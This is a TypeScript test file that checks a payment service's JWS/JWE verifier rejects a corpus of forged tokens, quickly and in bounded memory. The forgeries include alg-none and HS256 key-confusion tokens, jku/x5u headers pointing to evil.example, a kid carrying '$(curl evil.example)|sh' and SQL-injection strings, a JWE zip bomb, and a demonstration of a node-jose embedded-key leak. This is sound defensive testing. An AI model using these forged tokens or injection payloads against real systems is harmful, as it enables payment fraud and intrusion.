// Hostile-token corpus: every token must be rejected, for the expected reason, quickly and in bounded memory.
import { createPublicKey, generateKeyPairSync, randomBytes, sign as cryptoSign } from 'node:crypto';
import { performance } from 'node:perf_hooks';
import * as nodeJose from 'node-jose';
import { JweDecrypter, JweEncrypter } from './jwe/jwe';
import { JwsSigner } from './jws/signer';
import { JwsVerifier } from './jws/verifier';
import type { PayrailKeyStore } from './keys/keystore';
import { CryptoError } from './lib/errors';
import { InMemoryReplayStore } from './replay/replay-store';
import { b64u, forgeEdDsa, forgeEs256, forgeHs256, keys, nowS, storeOf, withState } from './test/fixtures';

interface Case {
  name: string;
  run: () => Promise<unknown>;
  reason: string;
}

async function reasonOf(run: () => Promise<unknown>): Promise<string> {
  try {
    await run();
  } catch (e) {
    if (e instanceof CryptoError) {
      expect(e.message).toBe('invalid token'); // one generic message: no oracle
      return e.reason;
    }
    throw e;
  }
  return 'ACCEPTED';
}

const flip = (segment: string, bit = 0): string => {
  const b = Buffer.from(segment, 'base64url');
  const i = Math.floor(b.length / 2);
  b[i] = (b[i] ?? 0) ^ (1 << bit);
  return b.toString('base64url');
};
const part = (token: string, i: number): string => token.split('.')[i] ?? '';
const withPart = (token: string, i: number, value: string): string => token.split('.').map((p, j) => (j === i ? value : p)).join('.');
const header = (token: string): Record<string, unknown> => JSON.parse(Buffer.from(part(token, 0), 'base64url').toString()) as Record<string, unknown>;

let store: PayrailKeyStore;
let verifier: JwsVerifier;
let decrypter: JweDecrypter;
let cases: Case[];
let replayed: string;

const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const attackerJwk = { ...(attacker.publicKey.export({ format: 'jwk' }) as Record<string, unknown>) };

beforeAll(async () => {
  const es = keys.es256();
  store = await storeOf(
    es.privateJwk,
    withState(keys.es256('gone').privateJwk, 'retired'),
    withState(keys.eddsa().publicJwk, 'verify-only'),
    keys.ps256().publicJwk,
    keys.ecEnc().privateJwk,
    withState(keys.ecEnc('enc-old').privateJwk, 'retired'),
  );
  verifier = new JwsVerifier(store, { algorithms: ['ES256', 'PS256'], maxAgeSeconds: 300, replay: { store: new InMemoryReplayStore(), ttlSeconds: 600 } });
  decrypter = new JweDecrypter(store);
  const signer = new JwsSigner(store);
  let n = 0;
  const claims = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({ payment_id: 'pay_1', amount: 1250, iat: nowS(), jti: `jti-${n++}`, ...extra });
  const good = (): string => signer.sign(claims());
  const sign = (h: unknown, p: unknown = claims()): string => forgeEs256(h, p, es.privateKey);
  const ok = { alg: 'ES256', kid: 'es-1' };
  const rsaPem = keys.ps256().publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const v = (t: unknown) => () => verifier.verify(t as string);
  const sigOf = (t: string): string => part(t, 2);
  // explicit typing (RFC 8725 3.11): Payrail's own tokens must carry one of their types; upstream tokens may omit
  // typ, but a typ they carry must be the expected one (a read token is never a payment, and the reverse)
  const payrailTyped = new JwsVerifier(store, { algorithms: ['ES256'], typ: ['payrail-instruction+jws', 'payrail-settlement-batch+jws'] });
  const upstreamTyped = new JwsVerifier(store, { algorithms: ['ES256'], typ: 'payrail-payment+jws', typRequired: false });
  const tv = (t: string) => () => payrailTyped.verify(t);
  const uv = (t: string) => () => upstreamTyped.verify(t);

  replayed = good();
  const tokenA = good();
  const der = cryptoSign('sha256', Buffer.from(`${b64u(ok)}.${b64u(claims())}`), es.privateKey).toString('base64url');
  const truncated = Buffer.from(sigOf(tokenA), 'base64url').subarray(0, 60).toString('base64url');
  const nested = JSON.parse('{"a":'.repeat(100) + '1' + '}'.repeat(100)) as unknown;

  const jws: Case[] = [
    { name: 'alg none, empty signature', run: v(`${b64u({ alg: 'none', kid: 'es-1' })}.${b64u(claims())}.`), reason: 'format' },
    { name: 'alg none with a signature', run: v(`${b64u({ alg: 'none', kid: 'es-1' })}.${b64u(claims())}.${sigOf(tokenA)}`), reason: 'alg' },
    { name: 'alg NONE (case variant)', run: v(sign({ alg: 'NONE', kid: 'es-1' })), reason: 'alg' },
    { name: 'HS256 keyed with the RSA public key PEM', run: v(forgeHs256({ alg: 'HS256', kid: 'ps-1' }, claims(), rsaPem)), reason: 'alg' },
    { name: 'HS256 keyed with the EC public JWK', run: v(forgeHs256({ alg: 'HS256', kid: 'es-1' }, claims(), JSON.stringify(keys.es256().publicJwk))), reason: 'alg' },
    { name: 'embedded jwk (attacker key, our kid)', run: v(forgeEs256({ ...ok, jwk: attackerJwk }, claims(), attacker.privateKey)), reason: 'header' },
    { name: 'embedded jwk (attacker key, no kid)', run: v(forgeEs256({ alg: 'ES256', jwk: attackerJwk }, claims(), attacker.privateKey)), reason: 'header' },
    { name: 'jku pointing elsewhere', run: v(forgeEs256({ ...ok, jku: 'https://evil.example/jwks.json' }, claims(), attacker.privateKey)), reason: 'header' },
    { name: 'x5u pointing elsewhere', run: v(forgeEs256({ ...ok, x5u: 'https://evil.example/cert.pem' }, claims(), attacker.privateKey)), reason: 'header' },
    { name: 'embedded x5c chain', run: v(forgeEs256({ ...ok, x5c: [randomBytes(300).toString('base64')] }, claims(), attacker.privateKey)), reason: 'header' },
    { name: 'kid path traversal', run: v(sign({ alg: 'ES256', kid: '../../../../dev/null' })), reason: 'kid' },
    { name: 'kid SQL injection', run: v(sign({ alg: 'ES256', kid: "x' OR '1'='1" })), reason: 'kid' },
    { name: 'kid command injection', run: v(sign({ alg: 'ES256', kid: '$(curl evil.example)|sh' })), reason: 'kid' },
    { name: 'kid __proto__', run: v(sign({ alg: 'ES256', kid: '__proto__' })), reason: 'kid' },
    { name: 'kid constructor', run: v(sign({ alg: 'ES256', kid: 'constructor' })), reason: 'kid' },
    { name: 'kid not a string', run: v(sign({ alg: 'ES256', kid: { $ne: null } })), reason: 'kid' },
    { name: 'kid missing', run: v(sign({ alg: 'ES256' })), reason: 'kid' },
    { name: 'unknown kid', run: v(forgeEs256({ alg: 'ES256', kid: 'attacker-1' }, claims(), attacker.privateKey)), reason: 'kid' },
    { name: 'empty string', run: v(''), reason: 'format' },
    { name: 'not a string', run: v(12345), reason: 'format' },
    { name: 'one segment', run: v(part(tokenA, 0)), reason: 'format' },
    { name: 'two segments', run: v(`${part(tokenA, 0)}.${part(tokenA, 1)}`), reason: 'format' },
    { name: 'four segments', run: v(`${tokenA}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'JWE passed as JWS', run: v('a.b.c.d.e'), reason: 'format' },
    { name: 'bad base64url character', run: v(`${part(tokenA, 0)}!.${part(tokenA, 1)}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'base64 padding', run: v(`${part(tokenA, 0)}=.${part(tokenA, 1)}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'base64 (not url) alphabet', run: v(withPart(tokenA, 2, sigOf(tokenA).replace(/[A-Z]/, '+'))), reason: 'format' },
    { name: 'non-canonical trailing bits', run: v(withPart(tokenA, 2, sigOf(tokenA).slice(0, -1) + 'B')), reason: 'format' },
    { name: 'non-ASCII character', run: v(`${tokenA.slice(0, 10)}é${tokenA.slice(11)}`), reason: 'format' },
    { name: 'header not JSON', run: v(`${b64u('not json')}.${part(tokenA, 1)}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'header is an array', run: v(`${b64u(['ES256'])}.${part(tokenA, 1)}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'header is null', run: v(`${b64u('null')}.${part(tokenA, 1)}.${sigOf(tokenA)}`), reason: 'format' },
    { name: 'duplicate alg in header', run: v(forgeEs256('{"alg":"ES256","kid":"es-1","alg":"none"}', claims(), es.privateKey)), reason: 'format' },
    { name: 'duplicate member in payload (validly signed)', run: v(forgeEs256(ok, `{"amount":1,"iat":${nowS()},"jti":"d1","amount":1000000}`, es.privateKey)), reason: 'format' },
    { name: 'payload not JSON (validly signed)', run: v(forgeEs256(ok, 'amount=1000000', es.privateKey)), reason: 'format' },
    { name: 'payload nested 100 deep (validly signed)', run: v(forgeEs256(ok, nested, es.privateKey)), reason: 'format' },
    { name: 'tampered header', run: v(withPart(tokenA, 0, b64u({ ...ok, typ: 'JWT' }))), reason: 'signature' },
    { name: 'tampered payload', run: v(withPart(tokenA, 1, b64u({ ...JSON.parse(Buffer.from(part(tokenA, 1), 'base64url').toString()), amount: 9_999_999 }))), reason: 'signature' },
    { name: 'tampered signature (bit flip)', run: v(withPart(tokenA, 2, flip(sigOf(tokenA)))), reason: 'signature' },
    { name: 'truncated signature', run: v(withPart(tokenA, 2, truncated)), reason: 'signature' },
    { name: 'DER instead of P1363 signature', run: v(`${b64u(ok)}.${b64u(claims())}.${der}`), reason: 'signature' },
    { name: 'all-zero signature', run: v(withPart(tokenA, 2, Buffer.alloc(64).toString('base64url'))), reason: 'signature' },
    { name: 'PS256 header on an ES256 key', run: v(sign({ alg: 'PS256', kid: 'es-1' })), reason: 'alg' },
    { name: 'EdDSA (not in this allowlist)', run: v(forgeEdDsa({ alg: 'EdDSA', kid: 'ed-1' }, claims(), keys.eddsa().privateKey)), reason: 'alg' },
    { name: 'ES384', run: v(sign({ alg: 'ES384', kid: 'es-1' })), reason: 'alg' },
    { name: 'RS256', run: v(sign({ alg: 'RS256', kid: 'ps-1' })), reason: 'alg' },
    { name: 'RSA1_5 as a JWS alg', run: v(sign({ alg: 'RSA1_5', kid: 'ps-1' })), reason: 'alg' },
    { name: 'unknown crit', run: v(sign({ ...ok, crit: ['payrail-magic'], 'payrail-magic': true })), reason: 'crit' },
    { name: 'crit on a registered name', run: v(sign({ ...ok, crit: ['exp'], exp: 1 })), reason: 'crit' },
    { name: 'empty crit', run: v(sign({ ...ok, crit: [] })), reason: 'crit' },
    { name: 'b64=false (RFC 7797)', run: v(sign({ ...ok, b64: false, crit: ['b64'] })), reason: 'header' },
    { name: 'zip in a JWS header', run: v(sign({ ...ok, zip: 'DEF' })), reason: 'zip' },
    { name: 'oversized token', run: v(sign(ok, claims({ pad: 'x'.repeat(70 * 1024) }))), reason: 'size' },
    { name: 'oversized header', run: v(sign({ ...ok, pad: 'x'.repeat(5000) })), reason: 'size' },
    { name: 'expired', run: v(signer.sign(claims({ exp: nowS() - 3600 }))), reason: 'expired' },
    { name: 'not yet valid', run: v(signer.sign(claims({ nbf: nowS() + 3600 }))), reason: 'not-before' },
    { name: 'typ missing where Payrail requires one', run: tv(sign(ok)), reason: 'typ' },
    { name: 'typ of an upstream payment on a Payrail verifier', run: tv(sign({ ...ok, typ: 'payrail-payment+jws' })), reason: 'typ' },
    { name: 'typ JWT on a Payrail verifier', run: tv(sign({ ...ok, typ: 'JWT' })), reason: 'typ' },
    { name: 'typ not a string', run: tv(sign({ ...ok, typ: ['payrail-instruction+jws'] })), reason: 'typ' },
    { name: 'typ with trailing space', run: tv(sign({ ...ok, typ: 'payrail-instruction+jws ' })), reason: 'typ' },
    { name: 'typ prefix of an accepted one', run: tv(sign({ ...ok, typ: 'payrail-instruction' })), reason: 'typ' },
    { name: 'read-request typ on a payment verifier', run: uv(sign({ ...ok, typ: 'payrail-request+jws' })), reason: 'typ' },
    { name: 'Payrail instruction typ on an upstream payment verifier', run: uv(sign({ ...ok, typ: 'payrail-instruction+jws' })), reason: 'typ' },
    { name: 'typ null on an upstream verifier (present, not a type)', run: uv(sign({ ...ok, typ: null })), reason: 'typ' },
    { name: 'typ empty string on an upstream verifier', run: uv(sign({ ...ok, typ: '' })), reason: 'typ' },
    { name: 'iat in the future', run: v(signer.sign(claims({ iat: nowS() + 3600 }))), reason: 'freshness' },
    { name: 'iat too old', run: v(signer.sign(claims({ iat: nowS() - 3600 }))), reason: 'freshness' },
    { name: 'replayed jti', run: v(replayed), reason: 'replay' },
    { name: 'retired key signature', run: v(forgeEs256({ alg: 'ES256', kid: 'gone' }, claims(), keys.es256('gone').privateKey)), reason: 'retired' },
    { name: 'detached: body swapped', run: () => verifier.verifyDetached(signer.signDetached(JSON.stringify(claims())), JSON.stringify(claims({ amount: 1 }))), reason: 'signature' },
  ];

  // ---- JWE ----
  const encrypter = new JweEncrypter(store);
  const plain = Buffer.from(JSON.stringify({ pan: '4111111111111111' }));
  const jweA = await encrypter.encrypt(plain);
  const d = (t: unknown) => () => decrypter.decrypt(t as string);
  const rnd = (n: number): string => randomBytes(n).toString('base64url');
  const fakeJwe = (h: Record<string, unknown>, ek = rnd(40)): string => `${b64u(h)}.${ek}.${rnd(12)}.${rnd(32)}.${rnd(16)}`;
  const encHeader = header(jweA);
  const epk = encHeader['epk'] as Record<string, string>;
  const offCurve = { ...epk, y: Buffer.alloc(32, 1).toString('base64url') };
  const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' }).publicKey.export({ format: 'jwk' });
  const joseEncKey = await nodeJose.JWK.asKey(keys.ecEnc().publicJwk);
  const bomb = await nodeJose.JWE.createEncrypt({ format: 'compact', zip: true, contentAlg: 'A256GCM', fields: { alg: 'ECDH-ES+A256KW', kid: 'enc-1' } }, joseEncKey)
    .update(Buffer.alloc(10 * 1024 * 1024))
    .final();
  const oldEnc = await nodeJose.JWE.createEncrypt({ format: 'compact', contentAlg: 'A256GCM', fields: { alg: 'ECDH-ES+A256KW', kid: 'enc-old' } }, await nodeJose.JWK.asKey(keys.ecEnc('enc-old').publicJwk))
    .update(plain)
    .final();
  const withHeader = (h: Record<string, unknown>): string => withPart(jweA, 0, b64u(h));

  const jwe: Case[] = [
    { name: 'JWE dir (key from outside)', run: d(`${b64u({ alg: 'dir', enc: 'A256GCM', kid: 'enc-1' })}..${rnd(12)}.${rnd(32)}.${rnd(16)}`), reason: 'format' },
    { name: 'JWE dir with an encrypted key', run: d(fakeJwe({ alg: 'dir', enc: 'A256GCM', kid: 'enc-1' })), reason: 'alg' },
    { name: 'JWE RSA1_5', run: d(fakeJwe({ alg: 'RSA1_5', enc: 'A256GCM', kid: 'enc-1' }, rnd(256))), reason: 'alg' },
    { name: 'JWE PBES2 with p2c = 10^9', run: d(fakeJwe({ alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', p2s: rnd(16), p2c: 1e9, kid: 'enc-1' })), reason: 'header' },
    { name: 'JWE ECDH-ES without key wrap', run: d(fakeJwe({ alg: 'ECDH-ES', enc: 'A256GCM', kid: 'enc-1', epk })), reason: 'alg' },
    { name: 'JWE A128CBC-HS256 content encryption', run: d(fakeJwe({ ...encHeader, enc: 'A128CBC-HS256' })), reason: 'alg' },
    { name: 'JWE zip bomb (10 MiB of zeros, DEF)', run: d(bomb), reason: 'zip' },
    { name: 'JWE invalid-curve epk', run: d(withHeader({ ...encHeader, epk: offCurve })), reason: 'header' },
    { name: 'JWE epk on P-384', run: d(withHeader({ ...encHeader, epk: { kty: 'EC', crv: 'P-384', x: p384.x, y: p384.y } })), reason: 'header' },
    { name: 'JWE epk with a private member', run: d(withHeader({ ...encHeader, epk: { ...epk, d: rnd(32) } })), reason: 'header' },
    { name: 'JWE epk of another key type', run: d(withHeader({ ...encHeader, epk: keys.ps256().publicJwk })), reason: 'header' },
    { name: 'JWE flipped bit in tag', run: d(withPart(jweA, 4, flip(part(jweA, 4)))), reason: 'decrypt' },
    { name: 'JWE flipped bit in ciphertext', run: d(withPart(jweA, 3, flip(part(jweA, 3)))), reason: 'decrypt' },
    { name: 'JWE flipped bit in IV', run: d(withPart(jweA, 2, flip(part(jweA, 2)))), reason: 'decrypt' },
    { name: 'JWE flipped bit in encrypted key', run: d(withPart(jweA, 1, flip(part(jweA, 1)))), reason: 'decrypt' },
    { name: 'JWE truncated tag', run: d(withPart(jweA, 4, Buffer.from(part(jweA, 4), 'base64url').subarray(0, 12).toString('base64url'))), reason: 'format' },
    { name: 'JWE tampered protected header', run: d(withHeader({ ...encHeader, cty: 'JWT' })), reason: 'decrypt' },
    { name: 'JWE unknown kid', run: d(withHeader({ ...encHeader, kid: 'attacker-enc' })), reason: 'kid' },
    { name: 'JWE signing key as recipient', run: d(withHeader({ ...encHeader, kid: 'es-1' })), reason: 'alg' },
    { name: 'JWE retired key', run: d(oldEnc), reason: 'retired' },
    { name: 'JWE embedded jwk', run: d(withHeader({ ...encHeader, jwk: attackerJwk })), reason: 'header' },
    { name: 'JWE jku', run: d(withHeader({ ...encHeader, jku: 'https://evil.example/jwks' })), reason: 'header' },
    { name: 'JWE unknown crit', run: d(withHeader({ ...encHeader, crit: ['x'], x: 1 })), reason: 'crit' },
    { name: 'JWE four segments', run: d(jweA.split('.').slice(0, 4).join('.')), reason: 'format' },
    { name: 'JWE six segments', run: d(`${jweA}.${rnd(8)}`), reason: 'format' },
    { name: 'JWE oversized', run: d(fakeJwe({ ...encHeader }).replace(/\.([^.]*)\.([^.]*)$/, `.${rnd(300 * 1024)}.$2`)), reason: 'size' },
    { name: 'JWS passed as JWE', run: d(tokenA), reason: 'format' },
  ];
  cases = [...jws, ...jwe];
});

describe('hostile tokens', () => {
  it('has a corpus of at least 30 tokens', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  it('accepts the honest token used for the replay case exactly once', async () => {
    expect((await verifier.verify(replayed)).kid).toBe('es-1');
  });

  it('rejects every token for the expected reason, each well under 50 ms, in bounded memory', async () => {
    for (const c of cases) await reasonOf(c.run); // warm-up (JIT, lazy requires)
    const heapBefore = process.memoryUsage().heapUsed;
    const rssBefore = process.memoryUsage().rss;
    const results: Array<{ name: string; reason: string; expected: string; ms: number }> = [];
    for (const c of cases) {
      const times: number[] = [];
      let reason = '';
      for (let i = 0; i < 3; i++) {
        const t0 = performance.now();
        reason = await reasonOf(c.run);
        times.push(performance.now() - t0);
      }
      times.sort((a, b) => a - b);
      results.push({ name: c.name, reason, expected: c.reason, ms: times[1] ?? Number.POSITIVE_INFINITY });
    }
    expect(results.filter((r) => r.reason !== r.expected)).toEqual([]);
    const slow = results.filter((r) => r.ms >= 50);
    expect(slow).toEqual([]);
    const total = results.reduce((s, r) => s + r.ms, 0);
    expect(total).toBeLessThan(cases.length * 10); // median per token; typically well under 1 ms
    // the zip bomb would inflate to 10 MiB (x3 runs) and PBES2 would burn seconds: neither happens
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(128 * 1024 * 1024);
  });

  it('is immune to the node-jose option leak (allowEmbeddedKey set elsewhere in the process)', async () => {
    const es = keys.es256();
    const joseStore = nodeJose.JWK.createKeyStore();
    await joseStore.add(es.publicJwk);
    const token = forgeEs256({ alg: 'ES256', kid: 'es-1', jwk: attackerJwk }, { amount: 9_999_999, iat: nowS(), jti: 'leak-1' }, attacker.privateKey);

    // node-jose's default verifier refuses the embedded key...
    await expect(nodeJose.JWS.createVerify(joseStore).verify(token)).rejects.toThrow();
    // ...until any code in the process creates a verifier with allowEmbeddedKey (it merges into module defaults)
    nodeJose.JWS.createVerify(joseStore, { allowEmbeddedKey: true });
    const leaked = await nodeJose.JWS.createVerify(joseStore).verify(token);
    expect(JSON.parse(leaked.payload.toString())).toMatchObject({ amount: 9_999_999 }); // the leak is real

    // ours never goes through node-jose's JWS verifier: still rejected, with a fresh verifier or an old one
    expect(await reasonOf(() => verifier.verify(token))).toBe('header');
    const fresh = new JwsVerifier(store, { algorithms: ['ES256'] });
    expect(await reasonOf(() => fresh.verify(token))).toBe('header');
    // and without the jwk header the attacker's signature is just wrong for our key
    const plain = forgeEs256({ alg: 'ES256', kid: 'es-1' }, { amount: 9_999_999 }, attacker.privateKey);
    expect(await reasonOf(() => fresh.verify(plain))).toBe('signature');
    // JWE decryption is unaffected as well
    const ours = await new JweEncrypter(store).encrypt('still fine');
    expect((await decrypter.decrypt(ours)).toString()).toBe('still fine');
  });
});

// keep an honest-token sanity check apart from the corpus: the fixtures really are valid
describe('corpus fixtures', () => {
  it('the attacker key is a real P-256 key (so signature failures are about trust, not format)', () => {
    expect(createPublicKey({ key: attackerJwk, format: 'jwk' }).asymmetricKeyDetails).toEqual({ namedCurve: 'prime256v1' });
  });
});
